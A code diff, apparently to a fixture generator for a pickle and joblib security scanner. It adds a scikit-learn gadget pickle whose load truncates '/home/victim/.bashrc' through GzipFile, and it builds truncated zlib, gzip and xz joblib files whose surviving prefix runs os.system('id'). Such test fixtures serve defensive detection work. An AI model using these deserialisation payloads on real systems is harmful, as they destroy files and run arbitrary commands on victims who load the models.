@@ -692,6 +692,30 @@ def gen_build():
               "A trace could show it as a call; only the reference is required here.")
 
 
+def gen_sklearn_gadgets():
+    # Only names the sklearn pattern admits: an estimator whose state sets
+    # the instance attribute `append` to a bound method
+    # MethodType(GzipFile, path) (both re-exported by sklearn modules);
+    # APPEND on the instance then runs GzipFile(path, 'wb'), which
+    # truncates the file.
+    data = (PROTO(4) + SBU("sklearn.linear_model._logistic") + SBU("LogisticRegression") + STACK_GLOBAL
+            + EMPTY_TUPLE + NEWOBJ
+            + EMPTY_DICT + SBU("append")
+            + SBU("sklearn.utils._available_if") + SBU("MethodType") + STACK_GLOBAL
+            + SBU("sklearn.datasets._covtype") + SBU("GzipFile") + STACK_GLOBAL
+            + SBU("/home/victim/.bashrc") + TUPLE2 + NEWOBJ
+            + SETITEM + BUILD + SBU("wb") + APPEND + STOP)
+    add("sklearn_gadget_methodtype_gzipfile.pkl", data,
+        "only sklearn-pattern names: LogisticRegression state sets append = MethodType(GzipFile, path) "
+        "(types.MethodType and gzip.GzipFile re-exported by sklearn modules); APPEND 'wb' then calls "
+        "GzipFile('/home/victim/.bashrc', 'wb'), truncating the file",
+        ["sklearn.utils._available_if:MethodType", "sklearn.datasets._covtype:GzipFile"], [],
+        notes="CPython's load_append calls obj.append(x) (after looking for obj.extend) on anything that is not "
+              "a list; BaseEstimator.__setstate__ puts 'append' in the instance __dict__. The pattern "
+              "sklearn\\..*:_?[A-Z]... admits any CapitalizedName attribute of an sklearn module, "
+              "including classes sklearn merely imports.")
+
+
 def gen_ext_persid():
     for op, code, name in ((EXT1, 1, "ext1"), (EXT2, 0x1234, "ext2"), (EXT4, 0x12345678, "ext4")):
         data = PROTO(2) + op(code) + BU(CMD) + TUPLE1 + REDUCE + STOP
@@ -961,6 +985,17 @@ def splice_in_first_frame(data, old, new):
     return data[:3] + struct.pack("<Q", n) + data[11:i] + new + data[i + len(old):]
 
 
+def fix_first_array_padding(data):
+    """After the first FRAME comes joblib's padding-length byte, the padding
+    and the first array's bytes, aligned to 16 in the file: redo the padding
+    after the frame changed size."""
+    n = struct.unpack("<Q", data[3:11])[0]
+    q = 11 + n
+    old_pad = data[q]
+    pad = (-(q + 1)) % 16
+    return data[:q] + bytes([pad]) + b"\xff" * pad + data[q + 1 + old_pad:]
+
+
 def marker_for(payload):
     n = len(payload) - 2
     assert n >= 7
@@ -1007,20 +1042,29 @@ def gen_joblib(tmp):
         add("joblib_%s_payload.joblib" % name, fn(plain),
             "the joblib payload file compressed as joblib's %s compressor writes it" % name,
             ["os:system"], [["os:system", ["id"]]])
-    # Truncated compressed file: the payload decompresses, the rest is cut.
-    z = zlib.compress(plain, 9)
-    i = plain.index(payload) + len(payload)
-    cut = None
-    for n in range(len(z) - 1, 0, -1):
-        part = zlib.decompressobj().decompress(z[:n])
-        if len(part) < i + 8:
-            cut = z[:n + 1]
-            break
-    part = zlib.decompressobj().decompress(cut)
-    assert payload in part and len(part) < len(plain)
-    add("joblib_zlib_truncated_payload.joblib", cut,
-        "a zlib-compressed joblib file cut short just after the payload (joblib reads and runs the prefix)",
-        ["os:system"], [["os:system", ["id"]]])
+    # Truncated compressed files: the payload decompresses, the rest is cut
+    # (joblib's reader runs the prefix before it meets the end of the data).
+    truncs = {
+        "zlib": (zlib.compress(plain, 9), lambda: zlib.decompressobj()),
+        "gzip": (gzip.compress(plain, 9, mtime=0), lambda: zlib.decompressobj(31)),
+        "xz": (lzma.compress(plain, format=lzma.FORMAT_XZ), lambda: lzma.LZMADecompressor(format=lzma.FORMAT_XZ)),
+    }
+    for name, (z, dec) in truncs.items():
+        cut = None
+        for n in range(16, len(z)):
+            try:
+                part = dec().decompress(z[:n])
+            except (zlib.error, lzma.LZMAError, EOFError):
+                continue
+            if payload in part:
+                cut = z[:n]
+                break
+        assert cut is not None and len(cut) < len(z), name
+        add("joblib_%s_truncated_payload.joblib" % name, cut,
+            "a %s-compressed joblib file cut short just after the payload (joblib reads and runs the prefix)" % name,
+            ["os:system"], [["os:system", ["id"]]], load_exit=[1, 2],
+            notes="load may refuse at the global (1) or reject the truncated stream before running it (2); "
+                  "scan and trace must still report the call joblib would make")
     # The object-array file, compressed (nested pickle inside compression).
     add("joblib_zlib_object_array_payload.joblib", zlib.compress(data, 3),
         "the object-array payload file, zlib-compressed",
@@ -1035,7 +1079,7 @@ def gen_joblib(tmp):
     # drop them, and push os.system instead; the first FRAME is resized.
     old = SBU("numpy") + MEMOIZE + SBU("ndarray") + MEMOIZE + STACK_GLOBAL
     new = SBU("numpy") + MEMOIZE + SBU("ndarray") + MEMOIZE + POP + POP + GLOBAL("os", "system")
-    data = splice_in_first_frame(data, old, new)
+    data = fix_first_array_padding(splice_in_first_frame(data, old, new))
     add("joblib_wrapper_subclass.joblib", data,
         "joblib NumpyArrayWrapper state whose 'subclass' is os.system",
         ["os:system"], [],
@@ -1077,6 +1121,7 @@ def main():
         gen_call_opcodes()
         gen_dotted()
         gen_build()
+        gen_sklearn_gadgets()
         gen_ext_persid()
         gen_stream_tricks()
         gen_py2()
